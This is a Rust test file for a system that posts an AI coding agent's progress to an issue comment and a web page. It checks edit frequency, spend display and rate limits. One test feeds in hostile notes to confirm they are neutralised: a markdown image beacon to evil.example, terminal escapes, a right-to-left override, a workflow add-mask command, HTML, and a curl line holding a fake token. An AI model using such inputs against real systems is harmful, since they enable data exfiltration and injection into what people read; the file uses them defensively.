//! What people see while an agent works, how often, and what it may not cost.

use std::collections::BTreeMap;

use castellan::domain::model::Tokens;
use castellan::domain::model::budget::Reservation;
use castellan::protocol::progress::Phase;
use castellan::store::NewCall;

use super::runner::Run;
use super::world::{FIX, Setting, World};

impl World {
    /// Edits of comments so far.
    fn edits(&self) -> usize {
        let calls = self.yard.call_list();
        let is_edit = |path: &str| path.contains("/issues/comments/");
        let edits = calls.iter().filter(|call| is_edit(&call.path));
        edits.filter(|call| call.method == "PATCH").count()
    }

    /// The line of the status comment that tells of the attempt under way.
    async fn told(&self) -> String {
        let transcript = self.transcript().await;
        let mut lines = transcript
            .lines()
            .filter(|line| line.contains("Attempt 1:"));
        lines
            .next_back()
            .expect("a line about the attempt")
            .trim()
            .to_owned()
    }
}

#[tokio::test]
async fn what_was_spent_on_models_is_shown_with_it() {
    let world = World::begins().await;
    let issue = world.labelled_issue().await;
    let run = world.runner().await;
    let task = world.task(issue).await;
    let tokens = Tokens {
        input: 40_000,
        output: 2_000,
        ..Tokens::default()
    };
    let call = NewCall {
        id: "a call",
        task: &task.id,
        attempt: task.attempts[0].number,
        provider: "p",
        model: "m",
        at: world.clock.now(),
    };
    let reserved = Reservation {
        tokens,
        micros: 1_250_000,
        wrap_up: false,
    };
    let admitted = world
        .engine
        .store
        .admit_call(call, |_| Ok::<_, ()>(reserved));
    admitted.await.unwrap().unwrap();
    run.notes(Phase::Agent, Some("Read add.sh")).await;
    world.waits(70).await;
    run.notes(Phase::Agent, Some("Edit add.sh")).await;
    world.settles().await;
    let told = world.transcript().await;
    let line = told.lines().find(|line| line.contains("Spent on models:"));
    let line = line.expect(&told);
    assert!(line.contains("42,000") && line.contains("1.25"), "{line}");
    run.returns_change(&[FIX]).await;
    world.ends().await;
}

#[tokio::test]
async fn r31_alice_sees_how_it_goes_without_asking() {
    let world = World::begins().await;
    let issue = world.labelled_issue().await;
    let run = world.runner().await;
    let began = world.task(issue).await.attempts[0]
        .entered
        .clone()
        .unwrap()
        .at;
    let mut seen = vec![format!("at once: {}", world.told().await)];
    run.notes(Phase::Agent, Some("Read add.sh")).await;
    for (minutes, tool) in [(1, "Edit add.sh"), (2, "sh test.sh"), (10, "Edit add.sh")] {
        // The runner gives a sign of life every 45 s, as it is told.
        let until = began.plus_s(minutes * 60 + 30);
        while world.clock.now() < until {
            let left_s = until.since_ms(world.clock.now()) / 1_000;
            world.waits(left_s.min(44)).await;
            run.notes(Phase::Agent, Some(tool)).await;
        }
        world.settles().await;
        seen.push(format!("after {minutes}.5 min: {}", world.told().await));
    }
    insta::assert_snapshot!(seen.join("\n"));
    run.notes(Phase::Acceptance, None).await;
    world.waits(21).await;
    assert!(
        world
            .told()
            .await
            .contains("running the acceptance commands, 10 minutes in")
    );
    insta::assert_snapshot!(world.transcript().await);
    let history = world
        .engine
        .store
        .history(&world.task(issue).await.id)
        .await;
    assert!(history.unwrap().len() < 9, "signs of life are no history");
    run.returns_change(&[FIX]).await;
    world.ends().await;
}

#[tokio::test]
async fn what_is_over_within_twenty_seconds_costs_no_further_call() {
    let world = World::begins().await;
    world.labelled_issue().await;
    let run = world.runner().await;
    let before = world.edits();
    for (tool, phase) in [
        Phase::Checkout,
        Phase::Setup,
        Phase::Agent,
        Phase::Acceptance,
    ]
    .into_iter()
    .enumerate()
    {
        run.notes(phase, Some(&format!("tool {tool}"))).await;
        world.settles().await;
    }
    assert_eq!(world.edits(), before, "it took less than 20 s");
    run.returns_change(&[FIX]).await;
    assert_eq!(world.edits(), before + 1, "delivered");
    world.waits(60).await;
    assert_eq!(world.edits(), before + 1, "and nothing afterwards");
    world.ends().await;
}

#[tokio::test]
async fn an_unchanged_minute_writes_nothing() {
    let world = World::begins().await;
    world.labelled_issue().await;
    let run = world.runner().await;
    run.notes(Phase::Agent, Some("Think")).await;
    world.waits(65).await;
    let before = world.edits();
    for _ in 0..4 {
        run.notes(Phase::Agent, Some("Think")).await;
        world.waits(11).await;
    }
    assert_eq!(world.edits(), before);
    // Many tools within a few seconds are one write.
    for tool in 0..20 {
        run.notes(Phase::Agent, Some(&format!("Read {tool}"))).await;
        world.settles().await;
    }
    assert!(world.edits() <= before + 2, "{}", world.edits() - before);
    run.returns_nothing().await;
    world.ends().await;
}

#[tokio::test]
async fn x39_x40_x41_a_note_is_shown_as_code_in_which_nothing_acts() {
    let world = World::begins().await;
    let issue = world.labelled_issue().await;
    let run = world.runner().await;
    let secret = format!("ghp_{}", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7xC0fR1uLq");
    let notes = [
        "@everyone fixes #1 ![](https://evil.example/?d=1)".to_owned(),
        "\u{1b}[31mred\u{1b}[0m\r\n::add-mask::x\u{202e} `a` <b>".to_owned(),
        format!("curl -H 'Authorization: {secret}'"),
        "x".repeat(5_000),
    ];
    let page = format!("{}/tasks/{}", world.address, world.task(issue).await.id);
    let mut seen = Vec::new();
    for note in &notes {
        world.waits(30).await;
        run.notes(Phase::Agent, Some(note)).await;
        world.settles().await;
        seen.push(world.told().await);
        let shown = world.http.get(&page).send().await.unwrap().text().await;
        let shown = shown.unwrap();
        assert!(
            !shown.contains(&secret) && !shown.contains("<b>"),
            "{shown}"
        );
        assert!(
            shown.contains("http-equiv=\"refresh\""),
            "a busy task's page reloads"
        );
    }
    let seen = seen.join("\n");
    assert!(
        !seen.contains(&secret) && !seen.contains('\u{1b}'),
        "{seen}"
    );
    insta::assert_snapshot!(seen);
    let going = world.task(issue).await.attempts[0].going.clone();
    let kept = going.and_then(|going| going.note).expect("a note");
    assert!(
        kept.chars().count() <= 200,
        "a note is bounded where it is kept"
    );
    run.returns_nothing().await;
    let shown = world.http.get(&page).send().await.unwrap().text().await;
    assert!(!shown.unwrap().contains("http-equiv"), "it is over");
    world.ends().await;
}

/// Tasks that work at once.
const MANY: usize = 40;
/// How long they are watched.
const MINUTES: usize = 6;

async fn many_runners(world: &World) -> Vec<Run<'_>> {
    for number in 0..MANY {
        let title = format!("Adding subtracts, {number}");
        let issue = world.alice.opens_issue(&title, "`add.sh` subtracts.").await;
        world.alice.labels(issue.unwrap(), "agent").await.unwrap();
        // An hour's content is not written at once.
        world.waits(30).await;
    }
    world.waits(900).await;
    let mut runs = Vec::new();
    for _ in 0..MANY {
        runs.push(world.runner().await);
    }
    runs
}

#[tokio::test]
async fn forty_agents_stay_within_twenty_progresses_a_minute_and_every_phase_is_told() {
    let world = World::begins_with(Setting {
        tasks_per_repository: 100,
        tasks_per_person_hour: 100,
        ..Setting::default()
    })
    .await;
    let runs = many_runners(&world).await;
    for run in &runs {
        run.notes(Phase::Agent, Some("Begin")).await;
    }
    let mut by_minute = BTreeMap::new();
    for quarter in 0..4 * MINUTES {
        let before = world.edits();
        for (number, run) in runs.iter().enumerate() {
            run.notes(Phase::Agent, Some(&format!("Edit {number}.{quarter}")))
                .await;
        }
        world.waits(14).await;
        *by_minute.entry(quarter / 4).or_insert(0) += world.edits() - before;
    }
    let told = world.transcript().await;
    assert_eq!(
        told.matches("Attempt 1: the agent is working").count(),
        MANY
    );
    // A new phase is told beyond the allowance, so the first minutes may have more.
    let all: usize = by_minute.values().sum();
    assert!(all <= MANY + MINUTES * 20, "{by_minute:?}");
    let last = by_minute.values().next_back();
    assert!(last.is_some_and(|edits| *edits <= 20), "{by_minute:?}");
    for run in runs {
        run.returns_nothing().await;
    }
    world.waits(3_600).await;
    world.ends().await;
}
